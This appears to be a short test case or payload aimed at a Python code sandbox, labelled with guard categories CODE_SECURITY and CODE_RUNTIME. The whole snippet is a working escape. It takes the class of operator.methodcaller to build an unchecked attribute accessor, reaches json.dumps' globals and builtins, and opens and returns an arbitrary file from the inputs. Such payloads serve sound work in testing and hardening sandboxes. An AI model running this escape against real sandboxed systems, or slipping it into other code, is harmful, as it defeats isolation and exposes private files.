# guard: CODE_SECURITY|CODE_RUNTIME
# bare: CODE_SECURITY
# what: the class of a methodcaller makes one that nobody checked
import operator
caller = type(operator.methodcaller("upper"))
names = caller("__getattribute__", "__globals__")(json.dumps)
return "ESCAPED " + names["__builtins__"]["open"](inputs["file"]).read()
